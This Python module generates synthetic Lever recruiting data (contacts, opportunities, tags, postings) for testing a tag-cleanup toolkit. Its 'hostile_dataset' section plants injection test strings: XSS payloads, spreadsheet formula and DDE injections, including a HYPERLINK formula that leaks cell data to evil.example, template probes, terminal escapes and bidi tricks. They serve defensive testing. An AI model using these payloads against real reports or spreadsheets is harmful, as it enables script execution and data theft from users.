"""Deterministic synthetic Lever data: contacts, opportunities, users.

Everything is derived from one `random.Random(seed)`, so the same `(seed, contacts)` (or
`(seed, opportunities)`) always gives the same data set, byte for byte. The shapes follow the
recorded examples in ``shared/lever-examples``: opportunities carry the contact's personal data,
their own ``tags``, ``archived`` (or, for a few, the legacy ``archivedAt`` / ``archiveReason``),
``confidentiality``, ``isAnonymized``, ``createdAt`` and ``updatedAt`` (null for a few).

What the generator plants on purpose, because the toolkit must cope with it:

- most contacts have one opportunity, a long tail up to eight (mean about 1.8);
- posting-derived tags (title, team, location, commitment) that differ per opportunity;
- contact-level tags (`CONTACT_LEVEL_TAGS`) on some but not all of a contact's opportunities;
- near-duplicate variants of those tags (`TAG_VARIANTS`: case, spaces);
- spellings integrations wrote (`INTEGRATION_ALIASES`: "DNC", "do-not-contact"), some people
  carrying only such a spelling (planted from their own random stream: the rest of the data set
  is what it was before they were added);
- archived, legacy-archived, confidential (~5 %), anonymized (~1 %) opportunities, a few with a
  null ``updatedAt`` and ~1 % without a contact;
- Unicode names, locations and tags; e-mail addresses only under example.com / example.org.
"""

from __future__ import annotations

import math
import random
import uuid
from dataclasses import dataclass, field
from typing import Any

# Tags that describe the person: they belong on every opportunity of the contact.
CONTACT_LEVEL_TAGS: tuple[str, ...] = (
    "Python",
    "Go",
    "Kubernetes",
    "Rust",
    "Do not contact",
    "Boomerang",
    "Referral",
    "Silver medalist",
    "Relocation OK",
    "Diversity pipeline",
)

# Near-duplicate spellings of contact-level tags, planted on a few opportunities.
TAG_VARIANTS: dict[str, tuple[str, ...]] = {
    "Python": (" python", "PYTHON", "python"),
    "Do not contact": ("Do Not Contact", "Do not  contact", "do not contact "),
    "Kubernetes": ("kubernetes", "K8s"),
    "Boomerang": ("boomerang",),
}

# Spellings other integrations wrote for a contact-level tag: the first stands in for the tag on
# every opportunity of a few people (they carry only the alias), the second on one opportunity of
# a few others. `DNC` is no near-duplicate: only a policy family can say it means the tag.
INTEGRATION_ALIASES: dict[str, tuple[str, str]] = {"Do not contact": ("DNC", "do-not-contact")}
ALIAS_PEOPLE = 3  # people per spelling, among those with several opportunities carrying the tag


def _plant_aliases(opps: list[dict[str, Any]], seed: int) -> None:
    """Replace a contact-level tag by an integration's spelling (`INTEGRATION_ALIASES`) for a
    few people (their own random stream: nothing else in the data set moves)."""
    rng = random.Random(f"integration-aliases-{seed}")
    by_contact: dict[str, list[dict[str, Any]]] = {}
    for opp in opps:
        if opp.get("contact"):
            by_contact.setdefault(opp["contact"], []).append(opp)
    for tag, (only, one) in INTEGRATION_ALIASES.items():
        carriers = sorted(
            c
            for c, own in by_contact.items()
            if len(own) > 1 and any(tag in o["tags"] for o in own)
        )
        chosen = rng.sample(carriers, min(2 * ALIAS_PEOPLE, len(carriers)))
        for i, contact in enumerate(chosen):
            carrying = [o for o in by_contact[contact] if tag in o["tags"]]
            alias = only if i < ALIAS_PEOPLE else one
            for opp in carrying if alias == only else carrying[:1]:
                opp["tags"] = [alias if t == tag else t for t in opp["tags"]]


POSTING_TITLES: tuple[str, ...] = (
    "Software Engineer",
    "Senior Software Engineer",
    "Infrastructure Engineer",
    "Data Scientist",
    "Product Manager",
    "Customer Success Manager",
    "Account Executive",
    "Recruiter",
    "Designer",
    "Site Reliability Engineer",
    "Développeur Backend",
    "Engineering Manager",
)
POSTING_TEAMS: tuple[str, ...] = (
    "Engineering",
    "Data",
    "Product",
    "Customer Success",
    "Sales",
    "People",
    "Design",
)
POSTING_LOCATIONS: tuple[str, ...] = (
    "San Francisco",
    "New York",
    "London",
    "Berlin",
    "München",
    "São Paulo",
    "東京",
    "Remote",
    "Toronto, ON",
)
POSTING_COMMITMENTS: tuple[str, ...] = ("Full-time", "Part-time", "Contract", "Internship")
STAGE_TAGS: tuple[str, ...] = ("interview", "phone screen", "offer", "sourced-event")

# Every tag a posting can put on an opportunity (opportunity-level by design).
POSTING_TAGS: tuple[str, ...] = (
    POSTING_TITLES + POSTING_TEAMS + POSTING_LOCATIONS + POSTING_COMMITMENTS
)

FIRST_NAMES: tuple[str, ...] = (
    "Zoë",
    "Ana",
    "Björn",
    "Chidi",
    "Dmitri",
    "Élodie",
    "Farah",
    "Giulia",
    "Hiroshi",
    "Ingrid",
    "José",
    "Kwame",
    "Leilani",
    "Mateus",
    "Nadia",
    "Oğuz",
    "Priya",
    "Quinn",
    "Rafael",
    "Saoirse",
    "Tomás",
    "Ursula",
    "Viktor",
    "Wen",
    "Xóchitl",
    "Yusuf",
    "Zainab",
    "Amélie",
    "Søren",
    "Łukasz",
)
LAST_NAMES: tuple[str, ...] = (
    "Ångström",
    "Okafor",
    "Müller",
    "García",
    "Nakamura",
    "Kowalski",
    "O'Brien",
    "Haddad",
    "Svensson",
    "Dubois",
    "Mensah",
    "Rossi",
    "Novák",
    "Pereira",
    "Chen",
    "Ivanova",
    "Fernández",
    "Kaur",
    "Nguyễn",
    "Smith",
)
CJK_NAMES: tuple[str, ...] = ("李雷", "韩梅梅", "王芳", "佐藤 花子", "김민준")
HEADLINES: tuple[str, ...] = (
    "Acme Corp",
    "Globex",
    "Initech",
    "Umbrella Analytics",
    "Stark Industries",
    "Wayne Enterprises",
    "Soylent GmbH",
    "Tyrell Systems",
    "",
)
CONTACT_LOCATIONS: tuple[str, ...] = (
    "San Francisco",
    "Oakland",
    "New York",
    "London",
    "Berlin",
    "Zürich",
    "São Paulo",
    "Toronto, ON, Canada",
    "Kraków",
    "Tokyo",
)
USER_NAMES: tuple[str, ...] = (
    "Integration Bot",
    "Riley Recruiter",
    "Morgan Coordinator",
    "Sam Sourcer",
    "Alex Admin",
)
ORIGINS: tuple[str, ...] = ("applied", "sourced", "referred", "agency", "university")
SOURCES: tuple[str, ...] = ("linkedin", "indeed", "referral", "company website", "job fair")

# Opportunities per contact: weights for 1..8 (mean about 1.8).
OPPORTUNITY_COUNT_WEIGHTS: tuple[float, ...] = (0.60, 0.20, 0.09, 0.05, 0.03, 0.015, 0.01, 0.005)

START_MS = 1_546_300_800_000  # 2019-01-01T00:00:00Z
END_MS = 1_735_689_600_000  # 2025-01-01T00:00:00Z
LAST_UPDATE_MS = 1_748_736_000_000  # 2025-06-01: generated updatedAt never exceeds this
DAY_MS = 86_400_000


@dataclass
class Dataset:
    """A generated data set: Lever-shaped opportunities, contacts by id, users, reasons."""

    opportunities: list[dict[str, Any]]
    contacts: dict[str, dict[str, Any]]
    users: list[dict[str, Any]]
    archive_reasons: list[dict[str, Any]] = field(default_factory=list)
    # deleted opportunities (GET /opportunities/deleted): {"id", "deletedAt", "opp"}
    deleted: list[dict[str, Any]] = field(default_factory=list)
    # GET /postings; applications by id (expand=applications); GET /stages
    postings: list[dict[str, Any]] = field(default_factory=list)
    applications: dict[str, dict[str, Any]] = field(default_factory=dict)
    stages: list[dict[str, Any]] = field(default_factory=lambda: [dict(s) for s in STAGES])

    def to_dict(self) -> dict[str, Any]:
        return {
            "opportunities": self.opportunities,
            "contacts": self.contacts,
            "users": self.users,
            "archive_reasons": self.archive_reasons,
            "deleted": self.deleted,
            "postings": self.postings,
            "applications": self.applications,
            "stages": self.stages,
        }

    @classmethod
    def from_dict(cls, raw: dict[str, Any]) -> Dataset:
        return cls(
            opportunities=list(raw["opportunities"]),
            contacts=dict(raw.get("contacts") or {}),
            users=list(raw.get("users") or []),
            archive_reasons=list(raw.get("archive_reasons") or []),
            deleted=list(raw.get("deleted") or []),
            postings=list(raw.get("postings") or []),
            applications=dict(raw.get("applications") or {}),
            stages=list(raw.get("stages") or [dict(s) for s in STAGES]),
        )


# Lever's pipeline stages (GET /stages): a few built-in ids, as Lever names them.
STAGES: tuple[dict[str, str], ...] = (
    {"id": "lead-new", "text": "New lead"},
    {"id": "lead-reached-out", "text": "Reached out"},
    {"id": "applicant-new", "text": "New applicant"},
    {"id": "phone-screen", "text": "Phone screen"},
    {"id": "on-site", "text": "On-site interview"},
    {"id": "offer", "text": "Offer"},
)


def lever_posting(posting: dict[str, Any]) -> dict[str, Any]:
    """A generated posting in Lever's shape (GET /postings): text, categories, state."""
    return {
        "id": posting["id"],
        "text": posting["title"],
        "state": "published",
        "categories": {
            "team": posting["team"],
            "location": posting["location"],
            "commitment": posting["commitment"],
        },
    }


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _slug(text: str) -> str:
    ascii_part = "".join(ch for ch in text.lower() if ch.isascii() and (ch.isalnum() or ch == " "))
    return ".".join(ascii_part.split()) or "person"


def _postings(rng: random.Random) -> list[dict[str, Any]]:
    postings = []
    for _ in range(40):
        title = rng.choice(POSTING_TITLES)
        postings.append(
            {
                "id": _uuid(rng),
                "title": title,
                "team": rng.choice(POSTING_TEAMS),
                "location": rng.choice(POSTING_LOCATIONS),
                "commitment": rng.choices(POSTING_COMMITMENTS, weights=(70, 10, 15, 5))[0],
            }
        )
    return postings


def _person(rng: random.Random, index: int) -> tuple[str, list[str]]:
    if rng.random() < 0.06:
        name = rng.choice(CJK_NAMES)
        local = f"person{index}"
    else:
        name = f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}"
        local = f"{_slug(name)}{index}"
    domain = "example.com" if rng.random() < 0.7 else "example.org"
    emails = [f"{local}@{domain}"]
    if rng.random() < 0.15:
        emails.append(f"{local}.alt@example.org")
    return name, emails


def generate_dataset(
    seed: int = 7, contacts: int = 300, opportunities: int | None = None
) -> Dataset:
    """Generate a deterministic synthetic Lever data set.

    Args:
        seed: the random seed; the same arguments always give the same data.
        contacts: number of contacts (people) to generate; ignored when `opportunities` is given.
        opportunities: if given, generate contacts until exactly this many opportunities exist.

    Returns:
        A `Dataset`; its opportunities are sorted by ``(createdAt, id)``.

    Example:
        >>> ds = generate_dataset(seed=1, contacts=50)
        >>> len(ds.contacts) <= 50 and len(ds.opportunities) >= 50
        True
        >>> len(generate_dataset(seed=1, opportunities=120).opportunities)
        120
    """
    if contacts < 0 or (opportunities is not None and opportunities < 0):
        raise ValueError("contacts and opportunities must be >= 0")
    rng = random.Random(seed)
    users = []
    for i, user_name in enumerate(USER_NAMES[: 3 + rng.randrange(3)]):
        users.append(
            {
                "id": _uuid(rng),
                "name": user_name,
                "username": _slug(user_name).replace(".", ""),
                "email": f"{_slug(user_name)}@example.com",
                "accessRole": "super admin" if i == 0 else "team member",
                "createdAt": START_MS - DAY_MS * (30 - i),
                "deactivatedAt": None,
            }
        )
    user_ids = [u["id"] for u in users]
    reasons = [
        {"id": _uuid(rng), "text": text, "status": "active"}
        for text in ("Hired", "Underqualified", "Withdrew", "Position filled", "Timing")
    ]
    reason_ids = [r["id"] for r in reasons]
    postings = _postings(rng)
    count_choices = range(1, len(OPPORTUNITY_COUNT_WEIGHTS) + 1)

    opps: list[dict[str, Any]] = []
    applications: dict[str, dict[str, Any]] = {}
    contact_map: dict[str, dict[str, Any]] = {}
    target = opportunities
    index = 0
    while (len(opps) < target) if target is not None else (index < contacts):
        index += 1
        n_opps = rng.choices(count_choices, weights=OPPORTUNITY_COUNT_WEIGHTS)[0]
        if target is not None:
            n_opps = min(n_opps, target - len(opps))
        contact_id = _uuid(rng)
        name, emails = _person(rng, index)
        headline = rng.choice(HEADLINES)
        location = rng.choice(CONTACT_LOCATIONS)
        phones = [{"type": "mobile", "value": f"+1555{rng.randrange(10**7):07d}"}]
        anonymized = rng.random() < 0.01
        no_contact = not anonymized and n_opps == 1 and rng.random() < 0.03
        if anonymized:
            name, emails, phones, headline, location = "Anonymized", [], [], "", ""
        if not no_contact:
            contact_map[contact_id] = {
                "id": contact_id,
                "name": name,
                "headline": headline,
                "isAnonymized": anonymized,
                "location": {"name": location},
                "emails": list(emails),
                "phones": [dict(p) for p in phones],
            }
        # contact-level tags: which ones this person has, and on which of the opportunities
        person_tags: list[str] = []
        if rng.random() < 0.55:
            k = rng.choices((1, 2, 3), weights=(60, 30, 10))[0]
            person_tags = rng.sample(CONTACT_LEVEL_TAGS, k)
        first_created = rng.randrange(START_MS, END_MS - 400 * DAY_MS)
        created = first_created
        for j in range(n_opps):
            if j:
                created += rng.randrange(1, 120) * DAY_MS + rng.randrange(DAY_MS)
            if opps and rng.random() < 0.01:
                created = opps[-1]["createdAt"]  # same-millisecond twins: order needs the id
            posting = rng.choice(postings)
            tags: list[str] = []
            if rng.random() < 0.85:
                tags += [posting["title"], posting["team"], posting["location"]]
                tags.append(posting["commitment"])
            elif rng.random() < 0.5:
                tags.append(posting["title"])
            if rng.random() < 0.15:
                tags.append(rng.choice(STAGE_TAGS))
            for tag in person_tags:
                # on some but not all opportunities: the split the toolkit exists to repair
                if n_opps == 1 or j == 0 or rng.random() < 0.5:
                    if tag in TAG_VARIANTS and rng.random() < 0.06:
                        tag = rng.choice(TAG_VARIANTS[tag])
                    if tag not in tags:
                        tags.append(tag)
            if not person_tags and rng.random() < 0.01:
                tags.append(rng.choice(TAG_VARIANTS["Python"]))
            updated: int | None = min(
                LAST_UPDATE_MS, created + rng.randrange(DAY_MS // 24, 200 * DAY_MS)
            )
            if rng.random() < 0.03:
                updated = None
            owner = rng.choice(user_ids)
            opp_id = _uuid(rng)
            opp: dict[str, Any] = {
                "id": opp_id,
                "name": name,
                "headline": headline,
                "contact": None if no_contact else contact_id,
                "emails": list(emails),
                "phones": [dict(p) for p in phones],
                "confidentiality": "confidential" if rng.random() < 0.05 else "non-confidential",
                "location": location,
                "links": [],
                "stage": STAGES[(index + j) % len(STAGES)]["id"],  # no draw: same data
                "stageChanges": [],
                "archived": None,
                "tags": tags,
                "sources": [rng.choice(SOURCES)],
                "origin": rng.choice(ORIGINS),
                "sourcedBy": owner,
                "owner": owner,
                "followers": [owner],
                "applications": [_uuid(rng)],
                "createdAt": created,
                "updatedAt": updated,
                "lastInteractionAt": updated or created,
                "lastAdvancedAt": created,
                "snoozedUntil": None,
                "urls": {
                    "list": "https://hire.sandbox.lever.co/candidates",
                    "show": f"https://hire.sandbox.lever.co/candidates/{opp_id}",
                },
                "isAnonymized": anonymized,
                "dataProtection": None,
            }
            app_id = opp["applications"][0]
            applications[app_id] = {
                "id": app_id,
                "type": "posting",
                "opportunityId": opp_id,
                "candidateId": opp_id,
                "posting": posting["id"],
                "postingOwner": owner,
                "createdAt": created,
            }
            if no_contact and rng.random() < 0.5:
                del opp["contact"]  # "all fields may be missing"
            is_last = j == n_opps - 1
            if rng.random() < (0.3 if is_last else 0.7):  # some people have several active
                archived_at = min(LAST_UPDATE_MS, created + rng.randrange(DAY_MS, 90 * DAY_MS))
                reason = rng.choice(reason_ids)
                if rng.random() < 0.06:
                    del opp["archived"]  # the legacy shape of the documentation's examples
                    opp["archivedAt"] = archived_at
                    opp["archiveReason"] = reason
                else:
                    opp["archived"] = {"reason": reason, "archivedAt": archived_at}
                if opp["updatedAt"] is not None:
                    opp["updatedAt"] = max(opp["updatedAt"], archived_at)
            opps.append(opp)
    opps.sort(key=lambda o: (o["createdAt"], o["id"]))
    _plant_aliases(opps, seed)
    return Dataset(
        opportunities=opps,
        contacts=contact_map,
        users=users,
        archive_reasons=reasons,
        postings=[lever_posting(p) for p in postings],
        applications=applications,
    )


def is_archived(opp: dict[str, Any]) -> bool:
    """Whether an opportunity is archived, in the current or the legacy shape.

    Example:
        >>> is_archived({"archived": {"reason": "r", "archivedAt": 1}})
        True
        >>> is_archived({"archivedAt": 5, "archiveReason": "r"})
        True
        >>> is_archived({"archived": None})
        False
    """
    return bool(opp.get("archived")) or opp.get("archivedAt") is not None


# Strings an attacker (or a candidate typing their own name) can put into Lever, planted by
# `hostile_dataset` (`lever-tags sandbox --hostile`): script and markup for HTML reports and
# widgets, formulas for spreadsheets, mathtext for charts, template syntax, terminal escapes, and
# a plain tag that looks like a credential header. The `alert(n)` numbers tell which one fired.
HOSTILE_TAGS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Authorization: Bearer innocentlookingtag",
    "$\\alpha$ costs $5 and $x^{2}$",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "'=1+1",
    "\x1b[31mred alert\x1b[0m",
    "\t=1+2",
    "Senior\r=2+5",  # a bare CR: a new row to some readers, then a formula
    "Go;=1+1",  # a cell of its own where `;` separates cells
    "Remote\u2028@SUM(1)\x85-3+3",  # Unicode line separator, NEL
    "Python\u202e\u2066txt.exe",  # bidi controls: shown reordered
    "Py\u200bthon\ufeff",  # zero-width: looks like "Python"
)
# Text no UTF-8 encoder accepts: lone surrogates, as Lever's JSON can carry them ("\ud800").
# The toolkit replaces them with U+FFFD on the way in (toolkit.chars.clean_json).
HOSTILE_UNDECODABLE: tuple[str, ...] = ("bad\ud800tag", "Ann\udfff Lee", "x\udbff@example.com")
HOSTILE_NAMES: tuple[str, ...] = (
    "<script>alert(11)</script>",
    "<img src=x onerror=alert(12)>",
    '"><svg onload=alert(13)> Smith',
    '=HYPERLINK("http://evil.example","Ada")',
    "@Ada+Lovelace",
    "Ada\r=2+5 Lovelace",
    "Ada;@SUM(1) Lovelace",
)
HOSTILE_EMAILS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0@example.com",
    '"<svg onload=alert(14)>"@example.com',
    "ada;=1+1@example.com",
)


def hostile_dataset(
    seed: int = 7, contacts: int = 300, opportunities: int | None = None, *, per_string: int = 3
) -> Dataset:
    """`generate_dataset` with hostile strings planted (the `--hostile` seed).

    Each of `HOSTILE_TAGS` goes on the first (not every) opportunity of `per_string` contacts
    with two or more opportunities, so every one is a split pair and appears in every report,
    CSV and plan; `HOSTILE_NAMES` and `HOSTILE_EMAILS` replace the name and email of some other
    such contacts (on the contact and on its opportunities), which also get `HOSTILE_TAGS[1]` on
    their first opportunity so they show up in grids. `HOSTILE_UNDECODABLE` (lone surrogates)
    go on one more contact each: a tag, a name, an email. Deterministic like the generator.

    Example:
        >>> ds = hostile_dataset(seed=1, contacts=200)
        >>> sum("<script>alert(1)</script>" in o["tags"] for o in ds.opportunities)
        3
    """
    ds = generate_dataset(seed=seed, contacts=contacts, opportunities=opportunities)
    by_contact: dict[str, list[dict[str, Any]]] = {}
    for opp in ds.opportunities:
        contact = opp.get("contact")
        if contact and not opp.get("isAnonymized"):
            by_contact.setdefault(contact, []).append(opp)
    multi = sorted(c for c, opps in by_contact.items() if len(opps) >= 2)
    rng = random.Random(seed ^ 0x5EED)
    rng.shuffle(multi)
    needed = len(HOSTILE_TAGS) * per_string + len(HOSTILE_NAMES) + len(HOSTILE_EMAILS) + 1
    if len(multi) < needed:
        raise ValueError(
            f"--hostile needs at least {needed} contacts with several opportunities; "
            f"raise --contacts (these give {len(multi)})"
        )
    pool = iter(multi)
    for tag in HOSTILE_TAGS:
        for _ in range(per_string):
            first = min(by_contact[next(pool)], key=lambda o: (o["createdAt"], o["id"]))
            first["tags"] = [*first["tags"], tag]
    for name in HOSTILE_NAMES:  # split on a hostile tag too, so the names reach the grids
        contact = next(pool)
        ds.contacts[contact]["name"] = name
        for opp in by_contact[contact]:
            opp["name"] = name
        first = min(by_contact[contact], key=lambda o: (o["createdAt"], o["id"]))
        first["tags"] = [*first["tags"], HOSTILE_TAGS[1]]
    for email in HOSTILE_EMAILS:
        contact = next(pool)
        ds.contacts[contact]["emails"] = [email]
        for opp in by_contact[contact]:
            opp["emails"] = [email]
    bad_tag, bad_name, bad_email = HOSTILE_UNDECODABLE
    contact = next(pool)
    ds.contacts[contact].update(name=bad_name, emails=[bad_email])
    first = min(by_contact[contact], key=lambda o: (o["createdAt"], o["id"]))
    first["tags"] = [*first["tags"], bad_tag]
    for opp in by_contact[contact]:
        opp.update(name=bad_name, emails=[bad_email])
    return ds


# -- createdAt profiles (how an account's opportunities spread over time) ------------------------

CREATED_PROFILES: tuple[str, ...] = ("uniform", "recent", "bulk", "sparse")
BULK_IMPORT_MS = 1_647_334_800_000  # 2022-03-15T09:00:00Z: the import starts
BULK_IMPORT_HOURS = 6  # and runs for six hours
BULK_SHARE = 0.40
BURSTS_MS = (1_554_076_800_000, 1_719_792_000_000)  # 2019-04-01 and 2024-07-01
BURST_DAYS = 45
RECENT_GROWTH = 1.05  # per year: about 65 % of the opportunities fall in the last 12 months


def _profile_time(profile: str, rng: random.Random) -> int:
    """One createdAt drawn from `profile` (see `apply_created_profile`)."""
    span = END_MS - START_MS
    if profile == "recent":
        # density grows like exp(g t): inverse CDF over the six years
        years = span / (365 * DAY_MS)
        u = rng.random()
        t = math.log(1 + u * (math.exp(RECENT_GROWTH * years) - 1)) / RECENT_GROWTH
        return START_MS + min(span - 1, int(t / years * span))
    if profile == "bulk":
        if rng.random() < BULK_SHARE:
            return BULK_IMPORT_MS + rng.randrange(BULK_IMPORT_HOURS * 3_600_000)
        return START_MS + rng.randrange(span)
    if profile == "sparse":
        start = BURSTS_MS[rng.random() < 0.5]
        return start + rng.randrange(BURST_DAYS * DAY_MS)
    return START_MS + rng.randrange(span)


def apply_created_profile(dataset: Dataset, profile: str, seed: int = 7) -> Dataset:
    """Respread the opportunities' `createdAt` over time the way real accounts are spread.

    Profiles: ``uniform`` (the generator's even spread over 2019-2024, unchanged), ``recent``
    (hiring grows: about 65 % created in the last 12 months), ``bulk`` (40 % created by one
    six-hour import on 2022-03-15, the rest even), ``sparse`` (two 45-day hiring bursts five
    years apart, nothing between). `updatedAt`, `archivedAt` and the other timestamps move with
    `createdAt` (never before it, never past 2025-06-01); a contact's opportunities keep
    their order. Deterministic for a given seed.

    Example:
        >>> ds = apply_created_profile(generate_dataset(seed=1, opportunities=200), "bulk")
        >>> day = [o for o in ds.opportunities if o["createdAt"] >= BULK_IMPORT_MS
        ...        and o["createdAt"] < BULK_IMPORT_MS + DAY_MS]
        >>> 0.3 < len(day) / 200 < 0.5
        True
    """
    if profile not in CREATED_PROFILES:
        raise ValueError(
            f"unknown created profile {profile!r} (choose one of {', '.join(CREATED_PROFILES)})"
        )
    if profile == "uniform":
        return dataset
    rng = random.Random(f"created-{seed}-{profile}")
    opps = dataset.opportunities
    new_times = sorted(_profile_time(profile, rng) for _ in opps)
    # Each opportunity takes a new time; the old order is kept so a contact's sequence holds.
    by_old = sorted(range(len(opps)), key=lambda i: (opps[i]["createdAt"], opps[i]["id"]))
    out = []
    for rank, index in enumerate(by_old):
        opp = dict(opps[index])
        delta = new_times[rank] - opp["createdAt"]
        opp["createdAt"] = new_times[rank]
        for key in ("updatedAt", "lastInteractionAt", "lastAdvancedAt"):
            if isinstance(opp.get(key), int):
                opp[key] = max(opp["createdAt"], min(LAST_UPDATE_MS, opp[key] + delta))
        if isinstance(opp.get("archived"), dict):
            archived = dict(opp["archived"])
            at = archived.get("archivedAt")
            if isinstance(at, int):
                archived["archivedAt"] = max(opp["createdAt"], min(LAST_UPDATE_MS, at + delta))
                if isinstance(opp.get("updatedAt"), int):
                    opp["updatedAt"] = max(opp["updatedAt"], archived["archivedAt"])
            opp["archived"] = archived
        elif isinstance(opp.get("archivedAt"), int):
            opp["archivedAt"] = max(
                opp["createdAt"], min(LAST_UPDATE_MS, opp["archivedAt"] + delta)
            )
            if isinstance(opp.get("updatedAt"), int):
                opp["updatedAt"] = max(opp["updatedAt"], opp["archivedAt"])
        out.append(opp)
    out.sort(key=lambda o: (o["createdAt"], o["id"]))
    return Dataset(
        opportunities=out,
        contacts=dataset.contacts,
        users=dataset.users,
        archive_reasons=dataset.archive_reasons,
        postings=dataset.postings,
        applications=dataset.applications,
        stages=dataset.stages,
    )


__all__ = [
    "CONTACT_LEVEL_TAGS",
    "CREATED_PROFILES",
    "HOSTILE_EMAILS",
    "HOSTILE_NAMES",
    "HOSTILE_TAGS",
    "HOSTILE_UNDECODABLE",
    "INTEGRATION_ALIASES",
    "POSTING_TAGS",
    "TAG_VARIANTS",
    "Dataset",
    "apply_created_profile",
    "generate_dataset",
    "hostile_dataset",
    "is_archived",
]
